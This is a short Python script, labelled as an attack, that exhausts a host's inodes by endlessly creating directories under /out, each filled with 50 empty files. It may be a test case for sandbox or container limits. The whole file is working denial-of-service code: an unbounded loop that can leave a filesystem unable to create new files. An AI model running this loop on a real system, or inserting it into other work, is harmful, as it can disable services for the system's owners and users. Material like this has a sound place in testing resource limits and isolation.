# Attack: exhaust the host's inodes: empty files and directories in /out, each costing no bytes.
import os

i = 0
while True:
    os.mkdir(f"/out/d{i}")
    for j in range(50):
        open(f"/out/d{i}/f{j}", "w").close()
    i += 1
